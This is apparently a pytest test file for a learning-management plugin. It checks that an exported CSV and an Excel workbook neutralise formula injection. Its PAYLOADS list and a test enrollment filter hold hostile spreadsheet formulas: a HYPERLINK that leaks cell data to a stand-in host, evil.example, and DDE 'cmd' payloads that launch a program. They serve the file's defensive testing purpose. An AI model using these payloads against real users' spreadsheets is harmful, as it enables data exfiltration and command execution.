"""
Export safety: the files the plugin serves, the CSV of rows an import did not take
(``Non_Imported_List_YYYY-MM-DD.csv``) and the quiz insights workbook (.xlsx), neutralise formula
injection. No cell starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (such text gets
a leading quote, and the rest of it is kept), and no workbook cell is a formula.

What reaches them is hostile on purpose: identifiers in an uploaded file, a learner's quiz answers,
the course's question texts and the LMS's reasons for refusing an enrollment.
"""

import csv
import html
import io
import re
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openedx_filters import PipelineStep
from openedx_filters.learning.filters import CourseEnrollmentStarted
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from devhost.lms import api as host
from learner_mgmt_plugin import api
from learner_mgmt_plugin._internal._workbook import quiz_insights_workbook
from learner_mgmt_plugin.data import ImportFailure, QuestionResult, QuizResult
from test_utils.fuzzing import examples
from test_utils.rest import course_url
from test_utils.world import csv_upload

pytestmark = [pytest.mark.figure("Export safety"), pytest.mark.django_db]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PROPERTY = settings(
    max_examples=examples(50), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(autouse=True)
def counted_as_cells(cases):
    cases.note("cases are", "exported cells checked")


def assert_neutralised(cell: str, original: str):
    assert not cell.startswith(FORMULA_STARTS), repr(cell)
    # Nothing is lost: the text follows the quote.
    assert cell == original or cell == "'" + original, (cell, original)


def read_csv(text: str):
    return list(csv.reader(io.StringIO(text, newline="")))


class HostileRefusal(PipelineStep):
    """
    The LMS refuses to enroll "refused" users with a reason that is a formula.
    """

    def run_filter(self, user, course_key, mode):  # pylint: disable=arguments-differ
        if user.username.startswith("refused"):
            raise CourseEnrollmentStarted.PreventEnrollment('=HYPERLINK("http://evil.example","refused")')
        return {}


def test_the_non_imported_csv_neutralises_hostile_identifiers_and_reasons(
    course, staff, staff_client, make_learner, settings, cases
):
    settings.OPEN_EDX_FILTERS_CONFIG = {
        CourseEnrollmentStarted.filter_type: {
            "fail_silently": False,
            "pipeline": [f"{__name__}.HostileRefusal"],
        },
    }
    make_learner("refused_one")
    # Each payload in each identifier column (quoted, so that commas and quotes stay in the cell).
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow(["email", "username", "employee_id", "due_date"])
    for payload in PAYLOADS:
        writer.writerow([payload, "", "", ""])
        writer.writerow(["", payload, "", ""])
        writer.writerow(["", "", payload, ""])
    writer.writerow(["", "refused_one", "", ""])
    response = staff_client.post(
        course_url(course, "assignments/import/"), {"file": csv_upload(buffer.getvalue())}, format="multipart"
    )
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["failed"] == 3 * len(PAYLOADS) + 1

    download = staff_client.get(body["download_url"])
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    rows = read_csv(download.content.decode())
    sent = read_csv(buffer.getvalue())
    assert len(rows) == 1 + 3 * len(PAYLOADS) + 1  # the headings and every failed row, none lost or merged
    for row in rows[1:]:
        line, *cells = row
        # The file strips surrounding space, as the import does; what is left is neutralised.
        originals = [value.strip() for value in sent[int(line) - 1][:3]]
        for cell, original in zip(cells[:3], originals):
            cases.tried()
            assert_neutralised(cell, original)
        cases.tried()
        assert not cells[3].startswith(FORMULA_STARTS), cells[3]
    assert rows[-1][4] == '\'=HYPERLINK("http://evil.example","refused")'


TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)
HOSTILE_TEXT = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), TEXT) | TEXT


@PROPERTY
@given(values=st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=5))
def test_no_cell_of_the_non_imported_csv_starts_a_formula(values, cases):
    failures = [ImportFailure(number + 2, *row) for number, row in enumerate(values)]
    rows = read_csv(api.non_imported_csv(api_result(failures)))
    assert rows[0] == ["row", "email", "username", "employee_id", "reason"]
    assert len(rows) == 1 + len(failures)
    for (line, *cells), failure in zip(rows[1:], failures):
        assert int(line) == failure.row
        for cell, original in zip(cells, (failure.email, failure.username, failure.employee_id, failure.reason)):
            cases.tried()
            # csv turns a lone "\r" into a line end on the way back only inside unquoted cells; the
            # writer quotes those, so each cell reads back whole.
            assert_neutralised(cell, original)


def api_result(failures):
    from learner_mgmt_plugin.data import ImportResult  # pylint: disable=import-outside-toplevel

    return ImportResult(
        imported=0,
        assigned=0,
        updated=0,
        reassigned=0,
        failures=tuple(failures),
        message="",
        show_failures_inline=True,
        non_imported_filename="Non_Imported_List_2030-01-01.csv",
    )


def workbook_cells(content: bytes) -> list[tuple[str, str, str | None]]:
    """
    (reference such as "D2", raw XML, text) of every cell of the workbook's sheet, read from the XML
    itself: an XML parser (openpyxl's, Excel's) turns a carriage return into a line feed, which would
    hide a leading one.
    """
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        (sheet,) = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = archive.read(sheet).decode()
    cells = []
    # An empty cell is self-closing (``<c r="D2" t="inlineStr" />``): matched first, so that it does
    # not run on into the next cell.
    for cell in re.findall(r"<c\b[^>]*/>|<c\b[^>]*>.*?</c>", xml, re.S):
        reference = re.search(r'\br="([A-Z]+[0-9]+)"', cell).group(1)
        text = re.search(r"<t\b[^>]*>(.*?)</t>", cell, re.S)
        cells.append((reference, cell, html.unescape(text.group(1)) if text else None))
    return cells


def assert_safe_workbook(content: bytes, cases):
    assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row >= 1  # a workbook Excel can open
    for _reference, cell, text in workbook_cells(content):
        cases.tried()
        assert not re.search(r"<f\b", cell), cell
        assert text is None or not text.startswith(FORMULA_STARTS), cell


def test_the_quiz_workbook_neutralises_hostile_questions_and_answers(staff_client, make_learner, staff, cases):
    course = host.create_course(
        "course-v1:TestX+Hostile+2026",
        title="Hostile quiz",
        chapters=("Basics",),
        quiz_questions=[(payload, "4") for payload in PAYLOADS],
    )
    host.grant_role(staff, course, "staff")
    learner = make_learner("quizzer")
    api.assign_course(course, ["quizzer"], actor=staff)
    for number, payload in enumerate(PAYLOADS, start=1):
        host.answer_question(learner, course, number, payload)

    response = staff_client.get(course_url(course, "learners/quizzer/quizzes/"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_safe_workbook(response.content, cases)
    texts = {text for _reference, _cell, text in workbook_cells(response.content)}
    # Every payload, as question and as answer, is still there to read, behind its quote.
    assert {"'" + payload for payload in PAYLOADS} <= texts


@PROPERTY
@given(
    quizzes=st.lists(
        st.tuples(
            HOSTILE_TEXT,
            st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, st.none() | st.booleans()), max_size=3),
        ),
        max_size=3,
    )
)
def test_no_cell_of_the_quiz_workbook_is_a_formula(quizzes, cases):
    results = [
        QuizResult(
            chapter_id=f"chapter-{number}",
            title=title,
            score=50,
            attempts=1,
            questions=tuple(QuestionResult(question, answer, correct) for question, answer, correct in questions),
        )
        for number, (title, questions) in enumerate(quizzes)
    ]
    content = quiz_insights_workbook(results)
    assert_safe_workbook(content, cases)
    # Nothing is lost: each chapter title (column A), question (D) and answer (E) is kept, behind a
    # quote if need be, but for the control characters a workbook cannot hold. A chapter without
    # questions has a row of its own, with an empty question and answer.
    texts = {reference: text or "" for reference, _cell, text in workbook_cells(content)}
    rows = [
        row
        for quiz in results
        for row in [(quiz.title, question.question, question.answer) for question in quiz.questions]
        or [(quiz.title, "", "")]
    ]
    for number, originals in enumerate(rows, start=2):
        for column, original in zip("ADE", originals):
            cases.tried()
            assert_neutralised(texts.get(f"{column}{number}", ""), ILLEGAL_CHARACTERS_RE.sub("", original))
    # The headings and those rows, no more.
    assert {int(re.sub("[A-Z]", "", reference)) for reference in texts} == set(range(1, len(rows) + 2))
